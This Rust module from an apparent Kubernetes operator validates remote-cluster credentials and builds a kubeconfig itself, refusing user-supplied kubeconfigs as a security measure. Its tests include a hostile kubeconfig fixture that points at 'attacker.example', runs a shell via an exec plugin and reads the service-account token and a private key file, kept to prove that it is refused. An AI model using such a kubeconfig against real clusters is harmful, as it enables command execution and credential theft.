//! Credentials for a Prometheus in another Kubernetes cluster.
//!
//! A GlobalView names a Secret in its own namespace holding exactly three things:
//! `server` (an `https://` URL), `token` (a bearer token) and optionally `ca.crt` (PEM).
//! The operator builds the client configuration itself from those values. It never
//! accepts a kubeconfig: kube-client honours a kubeconfig's `exec` plugins and
//! `auth-provider` commands (a command run inside the operator pod) and its `tokenFile`
//! and `*-file` paths (a local file, such as the operator's own service-account token,
//! sent to whatever `server` says). With this format none of that can be expressed.

use std::collections::BTreeMap;

use k8s_openapi::ByteString;
use kube::config::Kubeconfig;

/// Secret key holding the API server URL.
pub const KEY_SERVER: &str = "server";
/// Secret key holding the bearer token.
pub const KEY_TOKEN: &str = "token";
/// Secret key holding the API server's CA bundle (PEM); the system roots when absent.
pub const KEY_CA: &str = "ca.crt";
/// Longest accepted token (service-account JWTs are ~1-2 KiB).
pub const MAX_TOKEN_BYTES: usize = 16 * 1024;

/// Why a remote-cluster Secret was refused.
#[derive(Debug, thiserror::Error, PartialEq)]
pub enum RemoteClusterError {
    #[error(
        "no key {0:?} (a remote-cluster Secret holds `server`, `token` and optionally `ca.crt`; kubeconfigs are not accepted)"
    )]
    Missing(&'static str),
    #[error("key {0:?} is not UTF-8")]
    NotUtf8(&'static str),
    #[error(
        "server {0:?} must be an https:// URL (the token would otherwise travel in clear text)"
    )]
    NotHttps(String),
    #[error("token is empty, longer than {MAX_TOKEN_BYTES} bytes or holds whitespace")]
    BadToken,
    #[error("ca.crt holds no PEM certificate")]
    BadCa,
}

/// The validated contents of a remote-cluster Secret.
#[derive(Clone, PartialEq)]
pub struct RemoteCluster {
    pub server: String,
    token: String,
    ca_pem: Option<Vec<u8>>,
}

impl std::fmt::Debug for RemoteCluster {
    // The token never reaches a log line.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RemoteCluster")
            .field("server", &self.server)
            .field("ca", &self.ca_pem.is_some())
            .finish_non_exhaustive()
    }
}

fn text(
    data: &BTreeMap<String, ByteString>,
    key: &'static str,
) -> Result<Option<String>, RemoteClusterError> {
    data.get(key)
        .map(|b| String::from_utf8(b.0.clone()).map_err(|_| RemoteClusterError::NotUtf8(key)))
        .transpose()
}

impl RemoteCluster {
    /// Validates a Secret's `data`. Keys other than the three above are ignored.
    pub fn from_secret_data(
        data: &BTreeMap<String, ByteString>,
    ) -> Result<Self, RemoteClusterError> {
        let server = text(data, KEY_SERVER)?
            .ok_or(RemoteClusterError::Missing(KEY_SERVER))?
            .trim()
            .to_string();
        let uri: http::Uri = server
            .parse()
            .map_err(|_| RemoteClusterError::NotHttps(server.clone()))?;
        if uri.scheme_str() != Some("https") || uri.host().is_none_or(str::is_empty) {
            return Err(RemoteClusterError::NotHttps(server));
        }
        let token = text(data, KEY_TOKEN)?
            .ok_or(RemoteClusterError::Missing(KEY_TOKEN))?
            .trim()
            .to_string();
        if token.is_empty()
            || token.len() > MAX_TOKEN_BYTES
            || token.chars().any(char::is_whitespace)
        {
            return Err(RemoteClusterError::BadToken);
        }
        let ca_pem = match data.get(KEY_CA) {
            None => None,
            Some(b) => {
                let s =
                    std::str::from_utf8(&b.0).map_err(|_| RemoteClusterError::NotUtf8(KEY_CA))?;
                if !s.contains("-----BEGIN CERTIFICATE-----") {
                    return Err(RemoteClusterError::BadCa);
                }
                Some(b.0.clone())
            }
        };
        Ok(RemoteCluster {
            server,
            token,
            ca_pem,
        })
    }

    /// The client configuration as a kubeconfig that we build ourselves: one cluster
    /// (server, inline CA), one user (inline token), one context. Nothing else is set,
    /// so no exec plugin, auth provider, file path or proxy can appear in it.
    pub fn kubeconfig(&self) -> Result<Kubeconfig, serde_json::Error> {
        let mut cluster = serde_json::json!({ "server": self.server });
        if let Some(ca) = &self.ca_pem {
            // ByteString serializes as base64: the `certificate-authority-data` encoding.
            cluster["certificate-authority-data"] = serde_json::to_value(ByteString(ca.clone()))?;
        }
        serde_json::from_value(serde_json::json!({
            "apiVersion": "v1",
            "kind": "Config",
            "clusters": [{ "name": "remote", "cluster": cluster }],
            "users": [{ "name": "remote", "user": { "token": self.token } }],
            "contexts": [{ "name": "remote", "context": { "cluster": "remote", "user": "remote" } }],
            "current-context": "remote",
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn data(pairs: &[(&str, &str)]) -> BTreeMap<String, ByteString> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), ByteString(v.as_bytes().to_vec())))
            .collect()
    }

    const EXEC_KUBECONFIG: &str = r#"apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://attacker.example"}}]
users:
- name: u
  user:
    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: ["-c", "id"]}
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
    client-key: /etc/ssl/private/key.pem
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
"#;

    #[test]
    fn a_kubeconfig_is_refused() {
        // The old format: one key holding a kubeconfig with exec, tokenFile and a key path.
        let d = data(&[("kubeconfig", EXEC_KUBECONFIG)]);
        assert_eq!(
            RemoteCluster::from_secret_data(&d),
            Err(RemoteClusterError::Missing(KEY_SERVER))
        );
    }

    #[test]
    fn a_kubeconfig_next_to_valid_keys_is_ignored() {
        let d = data(&[
            ("kubeconfig", EXEC_KUBECONFIG),
            ("server", "https://api.remote.example:6443"),
            ("token", "abc.def"),
        ]);
        let rc = RemoteCluster::from_secret_data(&d).unwrap();
        let kc = rc.kubeconfig().unwrap();
        assert_eq!(kc.auth_infos.len(), 1);
        let user = kc.auth_infos[0].auth_info.as_ref().unwrap();
        assert!(user.exec.is_none());
        assert!(user.auth_provider.is_none());
        assert!(user.token_file.is_none());
        assert!(user.client_key.is_none() && user.client_certificate.is_none());
        let cluster = kc.clusters[0].cluster.as_ref().unwrap();
        assert_eq!(
            cluster.server.as_deref(),
            Some("https://api.remote.example:6443")
        );
        assert!(cluster.certificate_authority.is_none());
        assert!(cluster.proxy_url.is_none());
        assert!(!format!("{rc:?}").contains("abc.def"), "token in Debug");
    }

    #[test]
    fn server_must_be_https_and_token_sane() {
        let d = data(&[("server", "http://api:6443"), ("token", "t")]);
        assert!(matches!(
            RemoteCluster::from_secret_data(&d),
            Err(RemoteClusterError::NotHttps(_))
        ));
        let d = data(&[("server", "https://api:6443")]);
        assert_eq!(
            RemoteCluster::from_secret_data(&d),
            Err(RemoteClusterError::Missing(KEY_TOKEN))
        );
        let d = data(&[("server", "https://api:6443"), ("token", "a b")]);
        assert_eq!(
            RemoteCluster::from_secret_data(&d),
            Err(RemoteClusterError::BadToken)
        );
        let d = data(&[
            ("server", "https://api:6443"),
            ("token", "t"),
            ("ca.crt", "/etc/ca.pem"),
        ]);
        assert_eq!(
            RemoteCluster::from_secret_data(&d),
            Err(RemoteClusterError::BadCa)
        );
    }

    #[test]
    fn ca_goes_inline() {
        let pem = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
        let d = data(&[
            ("server", "https://api:6443"),
            ("token", "t"),
            ("ca.crt", pem),
        ]);
        let kc = RemoteCluster::from_secret_data(&d)
            .unwrap()
            .kubeconfig()
            .unwrap();
        let cluster = kc.clusters[0].cluster.as_ref().unwrap();
        assert!(cluster.certificate_authority_data.is_some());
        assert!(cluster.certificate_authority.is_none());
    }
}
